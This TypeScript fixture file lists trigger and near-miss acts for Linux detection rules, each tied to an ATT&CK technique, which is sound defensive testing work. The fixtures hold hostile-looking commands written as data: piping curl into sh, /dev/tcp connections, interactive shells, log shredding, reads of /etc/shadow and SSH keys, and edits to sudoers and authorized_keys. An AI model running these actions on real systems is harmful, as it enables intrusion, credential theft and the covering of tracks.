/** For rules of the starter: an act for which it fires, and what comes near and is none; perform.py does them. */
export type StarterAct = readonly [type: string, technique: string, fires: string, near: string];

const put = (path: string, near: string): [string, string] => [`put('${path}')`, `put('${near}')`];
const add = (path: string, near: string): [string, string] => [`add('${path}')`, `add('${near}')`];
const drop = (path: string, near: string): [string, string] => [
  `put('${path}'); os.unlink('${path}')`,
  `put('${near}'); os.unlink('${near}')`,
];
/** A program of this name that does nothing, and its arguments. */
const runs = (words: string, near: string): [string, string] => [
  `stand(*${JSON.stringify(words.split(' '))})`,
  `stand(*${JSON.stringify(near.split(' '))})`,
];
const environment = (name: string, value: string, near: string): [string, string] => [
  `os.execve('/bin/true', ['true'], {'${name}': '${value}'})`,
  `os.execve('/bin/true', ['true'], {'${name}': '${near}'})`,
];
/** The same python, run by a copy of it in a directory that anyone may write to, and by one in another. */
const copied = (code: string): [string, string] => [
  `python(tmp, ${JSON.stringify(code)})`,
  `python('.', ${JSON.stringify(code)})`,
];

export const starterActs: readonly StarterAct[] = [
  ['ProcessCreate', 'T1620', `stand('x', at='/dev/shm')`, `stand('x')`],
  [
    'ProcessCreate',
    'T1059.004',
    `stand('nginx', '-c', '/bin/sh -c true; true', like='/bin/sh')`,
    `stand('other', '-c', '/bin/sh -c true; true', like='/bin/sh')`,
  ],
  [
    'ProcessCreate',
    'T1059.004',
    `connected(); os.execv('/bin/sh', ['sh', '-i'])`,
    `connected(); os.execv('/bin/sh', ['sh', '-c', 'true'])`,
  ],
  [
    'ProcessCreate',
    'T1059.004',
    `os.execv('/bin/sh', ['sh', '-c', 'true curl http://x | sh'])`,
    `os.execv('/bin/sh', ['sh', '-c', 'true curl http://x | cat'])`,
  ],
  ['ProcessCreate', 'T1105', ...runs('curl -o /tmp/x http://x', 'curl -o x http://x')],
  ['ProcessCreate', 'T1204.002', `stand('p', at=tmp)`, `stand('p')`],
  ['ProcessCreate', 'T1204.002', `script(tmp)`, `script('.')`],
  ['ProcessCreate', 'T1136.001', ...runs('useradd x', 'users x')],
  ['ProcessCreate', 'T1098', ...runs('usermod x', 'user x')],
  ['ProcessCreate', 'T1548.001', ...runs('chmod 4755 x', 'chmod 755 x')],
  ['ProcessCreate', 'T1562.001', ...runs('systemctl stop auditd', 'systemctl stop cups')],
  ['ProcessCreate', 'T1070.003', ...runs('rm /root/.bash_history', 'ls /root/.bash_history')],
  ['ProcessCreate', 'T1070.002', ...runs('shred /var/log/auth.log', 'cat /var/log/auth.log')],
  ['ProcessCreate', 'T1574.006', ...environment('LD_PRELOAD', '/tmp/none.so', '/srv/none.so')],
  ['ProcessCreate', 'T1552.001', ...runs('grep -ri password= /etc', 'grep -ri main /etc')],
  ['ProcessCreate', 'T1552.005', ...runs('curl http://169.254.169.254/', 'curl http://169.254.1.1/')],
  ['ProcessCreate', 'T1611', ...runs('nsenter -t 1 -m', 'nsenter -t 12 -m')],
  ['ProcessCreate', 'T1140', ...runs('base64 -d x', 'base64 x')],
  ['ProcessCreate', 'T1059.006', ...runs('perl -e exec"/bin/sh"', 'perl -e print')],
  ['ProcessCreate', 'T1105', ...runs('python3 -m http.server', 'python3 -m venv')],
  ['ProcessCreate', 'T1562.003', ...environment('HISTFILE', '/dev/null', '/root/.history')],
  [
    'ProcessCreate',
    'T1068',
    ...environment('GLIBC_TUNABLES', 'glibc.malloc.mxfast=glibc.malloc.mxfast=A', 'glibc.malloc.mxfast=1'),
  ],
  ['ProcessCreate', 'T1082', ...runs('linpeas', 'lint')],
  ['ProcessCreate', 'T1496', ...runs('xmrig', 'xm')],
  ['NetworkConnect', 'T1071', ...copied(`import socket; socket.socket().connect_ex(('127.0.0.1', 9))`)],
  [
    'NetworkConnect',
    'T1059.004',
    `network(); os.execv('/bin/bash', ['bash', '-c', '(exec 3<>/dev/tcp/192.0.2.1/9) 2>/dev/null; true'])`,
    `network(); os.execv('/bin/bash', ['bash', '-c', '(exec 3<>/dev/tcp/127.0.0.1/9) 2>/dev/null; true'])`,
  ],
  [
    'NetworkConnect',
    'T1496',
    `network(); socket.socket().connect_ex(('192.0.2.1', 3333))`,
    `network(); socket.socket().connect_ex(('192.0.2.1', 3334))`,
  ],
  [
    'ProcessAccess',
    'T1055.009',
    `os.open(f'/proc/{target}/mem', os.O_RDWR)`,
    `os.open(f'/proc/{target}/mem', os.O_RDONLY)`,
  ],
  [
    'ProcessAccess',
    'T1003.007',
    `other('sshd', lambda pid: open(f'/proc/{pid}/mem'))`,
    `other('ssh', lambda pid: open(f'/proc/{pid}/mem'))`,
  ],
  ['ProcessTampering', 'T1055', ...copied('import mmap; mmap.mmap(-1, 65536, prot=7, flags=34)')],
  [
    'MemoryProtect',
    'T1620',
    `fd = os.memfd_create('lib'); os.write(fd, b'code'); mmap.mmap(fd, 4, prot=5, flags=2)`,
    `fd = os.memfd_create('lib'); os.write(fd, b'code'); mmap.mmap(fd, 4, prot=3, flags=2)`,
  ],
  ['FileCreate', 'T1053.003', ...put('/etc/cron.d/x', '/etc/cron')],
  ['FileCreate', 'T1543.002', ...put('/etc/systemd/system/x.service', '/etc/systemd/system/x.conf')],
  ['FileCreate', 'T1098.004', ...put('/root/.ssh/authorized_keys', '/root/.ssh/known_hosts')],
  ['FileCreate', 'T1037.004', ...put('/etc/rc.local', '/etc/rc.locale')],
  ['FileCreate', 'T1546.004', ...put('/root/.bashrc', '/root/.bashed')],
  [
    'FileCreate',
    'T1574.006',
    `put('/etc/ld.so.preload'); os.unlink('/etc/ld.so.preload')`,
    `put('/etc/ld.so.preloaded')`,
  ],
  [
    'FileCreate',
    'T1505.003',
    `os.mkdir('/srv/www'); os.execv('/bin/sh', ['sh', '-c', ': > /srv/www/x.php'])`,
    `os.execv('/bin/sh', ['sh', '-c', ': > /srv/www/x.html'])`,
  ],
  ['FileCreate', 'T1098', ...put('/etc/group', '/etc/group-')],
  ['FileCreate', 'T1548.003', ...put('/etc/sudoers.d/x', '/etc/sudoers.d/x.dpkg-new')],
  ['FileCreate', 'T1556.003', ...put('/etc/pam.d/x', '/etc/pam.d/.x')],
  ['FileModify', 'T1053.003', ...add('/etc/crontab', '/etc/crontable')],
  ['FileModify', 'T1543.002', ...add('/etc/systemd/system/y.timer', '/etc/systemd/system/y.conf')],
  ['FileModify', 'T1037.004', ...add('/etc/init.d/x', '/etc/init.x')],
  ['FileModify', 'T1546.004', ...add('/etc/profile', '/etc/profiles')],
  ['FileModify', 'T1098', ...add('/etc/passwd', '/etc/passwd-')],
  ['FileModify', 'T1548.003', ...add('/etc/sudoers', '/etc/sudo.conf')],
  ['FileModify', 'T1098.004', ...add('/root/.ssh/authorized_keys2', '/root/.ssh/config')],
  ['FileModify', 'T1556.003', ...add('/etc/pam.d/su', '/etc/pam.conf')],
  ['FileDelete', 'T1070.002', ...drop('/var/log/auth.log', '/var/log/x.log')],
  ['FileDelete', 'T1070.003', ...drop('/root/.bash_history', '/root/.history')],
  ['PrivilegeChange', 'T1548.003', `setuid('sudo', 0o4755)`, `setuid('sudo', 0o755)`],
  ['PrivilegeChange', 'T1548.001', `setuid('x', 0o4755)`, `setuid('x', 0o755)`],
  ['FileOpen', 'T1003.008', `open('/etc/shadow')`, `open('/etc/passwd')`],
  [
    'FileOpen',
    'T1552.004',
    `put('/root/.ssh/id_rsa'); open('/root/.ssh/id_rsa')`,
    `put('/root/.ssh/id'); open('/root/.ssh/id')`,
  ],
  ['FileOpen', 'T1555.003', `put('/root/.mozilla/firefox/p/logins.json')`, `put('/root/.mozilla/firefox/p/prefs.js')`],
  ['FileOpen', 'T1003.007', `open(f'/proc/{target}/environ')`, `open(f'/proc/{target}/status')`],
  ['FileAttributeChange', 'T1548.001', `make('x'); os.chmod('x', 0o4755)`, `make('x'); os.chmod('x', 0o700)`],
  [
    'FileAttributeChange',
    'T1548',
    `make('x'); os.setxattr('x', 'security.capability', struct.pack('<5I', 0x02000001, 1 << 21, 0, 0, 0))`,
    `make('x'); os.chown('x', 1, 1)`,
  ],
  ['FileAttributeChange', 'T1222.002', `flags(make('x'), 0x10)`, `flags(make('x'), 0x40)`],
  ['UnixConnect', 'T1611', `unix('docker.sock')`, `unix('docker')`],
  [
    'Signal',
    'T1562.001',
    `other('auditd', lambda pid: os.kill(pid, 9))`,
    `other('audit', lambda pid: os.kill(pid, 9))`,
  ],
  [
    'RawSocket',
    'T1040',
    `socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)`,
    `socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)`,
  ],
  [
    'SocketListen',
    'T1571',
    `network(); python(tmp, listen('192.0.2.1'))`,
    `network(); python(tmp, listen('127.0.0.1'))`,
  ],
  [
    'KernelParameter',
    'T1562.001',
    `opened('/proc/sys/kernel/dmesg_restrict')`,
    `done(libc.unshare(0x40000000)); opened('/proc/sys/net/ipv4/ip_forward')`,
  ],
  [
    'ProcessRename',
    'T1036.004',
    `done(libc.prctl(15, b'[kworker/0:1]', 0, 0, 0))`,
    `done(libc.prctl(15, b'worker', 0, 0, 0))`,
  ],
  ['FailedExecution', 'T1204.002', `refused(tmp)`, `refused('.')`],
];
